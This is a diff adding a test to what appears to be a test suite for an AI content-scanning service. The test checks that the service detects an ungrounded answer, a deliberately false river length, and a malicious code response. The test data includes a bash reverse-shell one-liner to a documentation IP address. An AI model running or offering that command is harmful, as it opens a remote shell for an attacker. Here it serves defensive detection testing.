@@ -444,6 +444,38 @@ describe('asynchronous scans, results and reports', () => {
     expect(JSON.stringify(report)).not.toContain('4111');
   });
 
+  it('case 24: the language of malicious code, and why an answer is ungrounded', async () => {
+    const profile = makeProfile({ response: { ungrounded: 'alert', source_code: 'alert' } });
+    const grounded = await startTestScanApi({ policies: [compile(profile, TOOLS)] });
+    const { body } = await grounded.sync({
+      contents: [
+        {
+          prompt: 'How long is the river?',
+          context: 'The river Elbe is 1094 kilometres long and ends in the North Sea near Cuxhaven.',
+          response: 'The river Elbe is 2850 kilometres long and ends near Cuxhaven.',
+          code_response: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+        },
+      ],
+    });
+    expect(body.response_detected).toMatchObject({ ungrounded: true, malicious_code: true });
+    const [report] = (await grounded.ask('GET', `/v1/scan/reports?report_ids=${body.report_id}`)).body;
+    const rows = report.detection_results.filter((row: Answer['body']) => row.data_type === 'response');
+    const detailOf = (service: string): Answer['body'] =>
+      rows.find((row: Answer['body']) => row.detection_service === service).result_detail;
+    expect(detailOf('malicious_code').mc_report).toMatchObject({
+      verdict: 'malicious',
+      code_analysis_by_type: [{ file_type: 'Shell' }],
+      malware_script_report: { verdict: 'malicious' },
+      command_injection_report: [],
+    });
+    expect(detailOf('contextual_grounding').cg_report).toEqual({
+      status: 'completed',
+      category: 'ungrounded',
+      explanation: 'unsupported-number',
+    });
+    await grounded.close();
+  });
+
   it('case 24: tool events and topics in reports', async () => {
     const tool = await scan({ tool_event: { metadata: METADATA, input: BENIGN, output: INJECTION } });
     const [report] = await reportOf(tool.report_id);
